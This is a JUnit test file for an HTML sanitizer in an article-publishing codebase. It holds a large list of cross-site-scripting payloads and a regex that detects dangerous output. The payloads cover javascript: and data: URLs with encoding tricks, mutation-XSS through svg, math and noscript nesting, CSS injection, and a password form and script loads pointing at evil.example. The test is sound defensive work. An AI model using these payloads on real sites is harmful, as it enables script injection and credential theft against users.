package dev.sarkhat.article.body;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BodyHtmlAttackTest {

  /** Attributes are held against a second allow list by {@link BodyFixtures#checked}. */
  private static final Pattern DANGER =
      Pattern.compile(
          "<script|<style|<svg|<math|<form|<meta|<base|<object|<embed|<link|<template|<noscript"
              + "|<[^>]*(?:href|src|cite|poster)=\"\\s*(?!https?://|/[^/]|mailto:|tel:)|evil\\.example/frame",
          Pattern.CASE_INSENSITIVE);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=/a.jpg onerror=alert(1)>",
        "<img src='/a.jpg' alt='\"><script>alert(1)</script>'>",
        "<img src=/a.jpg/onerror=alert(1)//",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=`javascript:alert(1)`>",
        "<img/src=/a.jpg/onload=alert(1)>",
        "<img src=/a.jpg title=\"a\" onload=alert(1) alt=\"`><img src=x onerror=alert(1)>\">",
        "<a href=javascript:alert(1)>a</a>",
        "<a href=' javascript:alert(1)'>a</a>",
        "<a href='java\tscript:alert(1)'>a</a>",
        "<a href='java\nscript:alert(1)'>a</a>",
        "<a href='java\u0000script:alert(1)'>a</a>",
        "<a href='\u0001javascript:alert(1)'>a</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>a</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>a</a>",
        "<a href='javascript&colon;alert(1)'>a</a>",
        "<a href='java&Tab;script:alert(1)'>a</a>",
        "<a href='java&NewLine;script:alert(1)'>a</a>",
        "<a href='JaVaScRiPt:alert(1)'>a</a>",
        "<a href='javascript\uFF1Aalert(1)'>a</a>",
        "<a href='\u200Bjavascript:alert(1)'>a</a>",
        "<a href='java\u200Cscript:alert(1)'>a</a>",
        "<a href='vbscript:msgbox(1)'>a</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>a</a>",
        "<a href='feed:javascript:alert(1)'>a</a>",
        "<a href='view-source:javascript:alert(1)'>a</a>",
        "<a href='blob:https://evil.example/1'>a</a>",
        "<a href='file:///etc/passwd'>a</a>",
        "<a href='/\\evil.example'>a</a>",
        "<a href='\\\\evil.example'>a</a>",
        "<a href='/\t/evil.example'>a</a>",
        "<a href='https:evil.example'>a</a>",
        "<a href='http://user@evil.example/'>a</a>",
        "<a href='https://ok.example\" onmouseover=\"alert(1)'>a</a>",
        "<a href=/x onclick=alert(1) onfocus=alert(2) autofocus>a</a>",
        "<a href='/x' style='background:url(javascript:alert(1))'>a</a>",
        "<a xlink:href='javascript:alert(1)'>a</a>",
        "<a href='/x' title='\" onmouseover=\"alert(1)'>a</a>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>a</text></a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<math href='javascript:alert(1)'>a</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<style><img src='</style><img src=x onerror=alert(1)//'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"width:expression(alert(1))\">a</p>",
        "<div style='background-image:url(javascript:alert(1))'>a</div>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>a</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href='https://evil.example/'><a href='/x'>a</a>",
        "<form action=https://evil.example><input name=p type=password><button>a</button></form>",
        "<button formaction=javascript:alert(1)>a</button>",
        "<isindex action=javascript:alert(1) type=image>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe src='https://evil.example/frame'></iframe>",
        "<iframe src='//evil.example/frame'></iframe>",
        "<iframe src='http://www.youtube.com/embed/x'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src='https://www.youtube.com/embed/x' srcdoc='<script>alert(1)</script>' onload=alert(1)></iframe>",
        "<iframe src='https://youtube.com.evil.example/frame'></iframe>",
        "<iframe src='https://evilyoutube.com/frame?evil.example/frame'></iframe>",
        "<iframe src='https://youtube.com@evil.example/frame'></iframe>",
        "<iframe src='https://evil.example/frame#youtube.com'></iframe>",
        "<iframe src='https://evil.example\\.youtube.com/frame?evil.example/frame'></iframe>",
        "<iframe src='https://youtube.com:8443/evil.example/frame'></iframe>",
        "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
        "<iframe><script>alert(1)</script></iframe>",
        "<iframe src='https://www.aparat.com/x\"onload=\"alert(1)'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<video src=javascript:alert(1) onerror=alert(1)></video>",
        "<video><source onerror=alert(1) src=x></video>",
        "<video poster=javascript:alert(1) src=https://a.example/a.mp4></video>",
        "<audio src=http://a.example/a.mp3 autoplay onplay=alert(1)></audio>",
        "<details open ontoggle=alert(1)>a</details>",
        "<body onload=alert(1)>a",
        "<html onmouseover=alert(1)>a",
        "<template><script>alert(1)</script></template>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<table background=javascript:alert(1)><tr><td onclick=alert(1)>a<td>b</table>",
        "<table><td><svg><desc><table><td></svg><a id='><img src=x onerror=alert(1)>'></a>",
        "<marquee onstart=alert(1)>a</marquee>",
        "<blockquote cite=javascript:alert(1)>a</blockquote>",
        "<p lang='en\" onclick=\"alert(1)' dir='\"><script>'>a</p>",
        "<time datetime='\"><script>alert(1)</script>'>a</time>",
        "<x-element onclick=alert(1)>a</x-element>",
        "<p\u0000 onclick=alert(1)>a</p>",
        "<img src=/a.jpg srcset='javascript:alert(1) 1x' data-src=javascript:alert(1)>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>' data-src='javascript:alert(1)'>",
        "<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>",
        "<ol start='1\" onclick=\"alert(1)'><li>a</ol>",
        "<pre><code></pre><img src=x onerror=alert(1)></code>",
        "<a href='https://a.example/?x=<script>alert(1)</script>'>a</a>",
      })
  void lets_no_attack_through(String attack) {
    for (String input :
        new String[] {attack, "<p>b</p>" + attack + "<p>c</p>", "<ul><li>" + attack}) {
      String clean = BodyFixtures.checked(input);
      assertFalse(DANGER.matcher(clean).find(), () -> input + "\n became " + clean);
    }
    String auto =
        BodyHtml.sanitize(attack, BodyFormat.AUTO, BodyFixtures.HOSTS, UnaryOperator.identity());
    assertFalse(DANGER.matcher(auto).find(), () -> attack + "\n became " + auto);
    String text =
        BodyHtml.sanitize(attack, BodyFormat.TEXT, BodyFixtures.HOSTS, UnaryOperator.identity());
    assertFalse(
        text.toLowerCase(Locale.ROOT).replaceAll("</?p>|<br>", "").contains("<"), () -> text);
  }

  @Test
  void keeps_no_control_characters_and_no_lone_surrogates() {
    assertEquals(
        "<p>ab\uFFFD c</p>", BodyFixtures.checked("<p>a\u0001b\uD83D&#x1;&#12;c\uFFFE</p>"));
    assertEquals("<p>\uD83D\uDE00</p>", BodyFixtures.checked("<p>\uD83D\uDE00</p>"));
  }
}
